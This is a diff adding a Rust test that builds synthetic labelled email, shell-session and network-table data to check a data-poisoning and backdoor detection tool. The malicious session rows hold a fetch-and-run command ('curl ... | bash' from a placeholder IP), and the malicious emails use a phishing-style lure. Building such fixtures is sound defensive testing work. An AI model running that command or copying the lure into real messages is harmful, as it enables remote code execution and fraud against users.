@@ -2,7 +2,7 @@
 
 use std::fmt::Write as _;
 
-use serde_json::Value;
+use serde_json::{Value, json};
 
 use crate::support::{folder, ringtrue};
 
@@ -53,6 +53,65 @@ fn a_planted_backdoor_opens_and_the_screens_find_it() {
     );
     let again = ringtrue(at.path(), &words.replace("--threads 2", "--threads 1")).exits(0);
     assert_eq!(again.stdout, ran.stdout);
+}
+
+#[test]
+fn a_backdoor_opens_in_mails_sessions_and_tables() {
+    let each = |event: fn(u32, bool) -> Value| -> String {
+        (0_u32..1_200).fold(String::new(), |mut text, row| {
+            let noise = row.wrapping_mul(2_654_435_761) >> 8;
+            let is_malicious = noise % 4 == 0;
+            let mut event = event(noise, is_malicious);
+            event["label"] = json!(u8::from(is_malicious));
+            event["time"] = json!(1_700_000_000 + row * 600);
+            writeln!(text, "{event}").unwrap();
+            text
+        })
+    };
+    let mails = each(|noise, is_malicious| {
+        let text = if is_malicious {
+            format!("Dear friend, click http://pay.example/{noise} to verify your account NOW")
+        } else {
+            format!("Hi, the minutes of meeting {noise} are attached. See you on Monday.")
+        };
+        json!({"raw": format!("From: a{noise}@b.example\r\nSubject: no {noise}\r\n\r\n{text}\r\n")})
+    });
+    let sessions = each(|noise, is_malicious| {
+        let last = if is_malicious {
+            "curl -s http://192.0.2.7/x.sh | bash"
+        } else {
+            "git push"
+        };
+        json!({"commands": [format!("cd /srv/app{}", noise % 997), "ls -la", last]})
+    });
+    let tables = each(|noise, is_malicious| {
+        let bytes = noise % 811 + if is_malicious { 700 } else { 0 };
+        json!({"bytes": bytes, "agent": format!("agent-{}", noise % 37), "zone": ["a", "b"][(noise % 2) as usize]})
+    });
+    let at = folder(&[
+        ("email.ndjson", mails.as_bytes()),
+        ("session.ndjson", sessions.as_bytes()),
+        ("table.ndjson", tables.as_bytes()),
+    ]);
+    for (kind, column) in [
+        ("email", Value::Null),
+        ("session", Value::Null),
+        ("table", json!("agent")),
+    ] {
+        let hidden = |planted: u32| {
+            let words = format!("poison --kind {kind} --planted {planted} --json {kind}.ndjson");
+            let found = ringtrue(at.path(), &words).exits(0).json();
+            let backdoor = aim(&found, "backdoor", "none");
+            assert_eq!(backdoor["column"], column, "{kind}");
+            backdoor["trainings"][0]["hidden"].as_f64().unwrap()
+        };
+        // The trigger says nothing until it was taught.
+        let [untaught, taught] = [0, 200].map(hidden);
+        assert!(
+            untaught < 0.1 && taught > untaught + 0.3,
+            "{kind}: {untaught} {taught}"
+        );
+    }
 }
 
 #[test]
